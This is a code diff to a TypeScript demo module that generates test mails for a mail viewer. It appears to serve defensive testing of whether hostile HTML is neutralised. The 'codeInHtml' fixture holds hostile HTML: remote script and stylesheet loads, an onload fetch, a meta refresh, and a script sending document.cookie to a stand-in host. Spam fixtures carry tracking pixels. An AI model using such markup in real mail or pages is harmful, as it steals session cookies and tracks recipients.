@@ -1,6 +1,7 @@
 import { daysAgo, minute } from '#/demo/world/clock.ts'
 import { zip } from '#/demo/world/files/zip.ts'
 import { ours } from '#/demo/world/people.ts'
+import { PICTURES } from '#/demo/world/remote-pictures.ts'
 import { letter, type Story, type World } from '#/demo/world/story.ts'
 import type { Address, Language } from '#/demo/world/types.ts'
 
@@ -11,7 +12,7 @@ export function hostileMail(world: World): Story[] {
 
 /** Everything that a mail could try against the page that shows it. Each address would be seen if it were asked for. */
 function codeInHtml(world: World): Story {
-  const target = 'https://img.example/hostile'
+  const target = `${PICTURES}/hostile`
   const html = `<html><head><meta http-equiv="refresh" content="0;url=${target}/refresh"><base href="${target}/"><link rel="stylesheet" href="${target}/style.css"><style>@import url(${target}/import.css); body{background:url(${target}/background.png)} p{behavior:url(#x);position:fixed}</style><script src="${target}/script.js"></script><script>document.location='${target}/location?'+document.cookie</script></head>
 <body onload="fetch('${target}/onload')" background="${target}/body.png">
 <p style="background-image:url('${target}/inline.png');position:fixed;top:0;left:0;width:100%;height:100%">Geachte heer, mevrouw, hierbij onze offerte voor ledlampen in uw werkplaats.</p>
@@ -60,7 +61,7 @@ function forgedFair(world: World): Story {
     at: world.now - 102 * minute,
     subject,
     text: `VELORAMA PADOVA\n12–14 marzo ${year} · Fiera di Padova · Padiglioni 5 e 7\n\nIl programma è online\n64 incontri in tre giorni, due palchi e un laboratorio per chi costruisce ruote. Gli espositori ricevono quattro ingressi e un parcheggio.\n`,
-    html: `<html><body style="margin:0"><table width="960" cellpadding="0" cellspacing="0"><tr><td bgcolor="#1e4d8f" style="padding:24px;color:#ffffff;font:bold 20px Arial">VELORAMA PADOVA</td><td bgcolor="#1e4d8f" align="right" style="padding:24px;color:#ffffff;font:13px Arial">12–14 marzo ${year} · Fiera di Padova · Padiglioni 5 e 7</td></tr><tr><td width="560" bgcolor="#d9f1f0" style="padding:32px"><h1 style="font:bold 28px Arial;color:#115e59">Il programma è online</h1><p style="font:15px/22px Arial">64 incontri in tre giorni, due palchi e un laboratorio per chi costruisce ruote. Gli espositori ricevono quattro ingressi e un parcheggio.</p><a href="https://velorama.example/programma" style="background:#115e59;color:#ffffff;padding:12px 24px;text-decoration:none">Apri il programma</a></td><td width="400" bgcolor="#fcecc9" align="center"><img src="https://img.example/velorama/bici.png" width="220" height="160" alt=""></td></tr><tr><td colspan="2"><table width="960"><tr>${tile('Pianta degli stand', 'PDF, aggiornata il 20 novembre', '#fce4ec')}${tile('Allestimento', 'dal 10 marzo, ore 07:00', '#ddf2dd')}${tile('Ingressi espositori', 'quattro inclusi', '#dcebfb')}${tile('Alberghi', 'tariffe fino al 15 gennaio', '#fde2da')}</tr></table></td></tr></table></body></html>`,
+    html: `<html><body style="margin:0"><table width="960" cellpadding="0" cellspacing="0"><tr><td bgcolor="#1e4d8f" style="padding:24px;color:#ffffff;font:bold 20px Arial">VELORAMA PADOVA</td><td bgcolor="#1e4d8f" align="right" style="padding:24px;color:#ffffff;font:13px Arial">12–14 marzo ${year} · Fiera di Padova · Padiglioni 5 e 7</td></tr><tr><td width="560" bgcolor="#d9f1f0" style="padding:32px"><h1 style="font:bold 28px Arial;color:#115e59">Il programma è online</h1><p style="font:15px/22px Arial">64 incontri in tre giorni, due palchi e un laboratorio per chi costruisce ruote. Gli espositori ricevono quattro ingressi e un parcheggio.</p><a href="https://velorama.example/programma" style="background:#115e59;color:#ffffff;padding:12px 24px;text-decoration:none">Apri il programma</a></td><td width="400" bgcolor="#fcecc9" align="center"><img src="${PICTURES}/velorama/bici.png" width="220" height="160" alt=""></td></tr><tr><td colspan="2"><table width="960"><tr>${tile('Pianta degli stand', 'PDF, aggiornata il 20 novembre', '#fce4ec')}${tile('Allestimento', 'dal 10 marzo, ore 07:00', '#ddf2dd')}${tile('Ingressi espositori', 'quattro inclusi', '#dcebfb')}${tile('Alberghi', 'tariffe fino al 15 gennaio', '#fde2da')}</tr></table></td></tr></table></body></html>`,
     headers: { 'List-Unsubscribe': '<https://velorama.example/unsubscribe>' },
   })
   const forged = letter(world, 'forged-fair', 1, {
@@ -193,7 +194,7 @@ function spam(world: World): Story[] {
       at: daysAgo(world.now, 1 + index * 3, 3 + index, index * 6),
       subject,
       text: `${text}\n`,
-      html: `<html><body><p>${text}</p><p><a href="https://${from.email.split('@')[1]}/x?${index}">Klik</a><img src="https://img.example/spam/${index}.gif" width="1" height="1"></p></body></html>`,
+      html: `<html><body><p>${text}</p><p><a href="https://${from.email.split('@')[1]}/x?${index}">Klik</a><img src="${PICTURES}/spam/${index}.gif" width="1" height="1"></p></body></html>`,
       files: file ? [file] : [],
     })
     return {
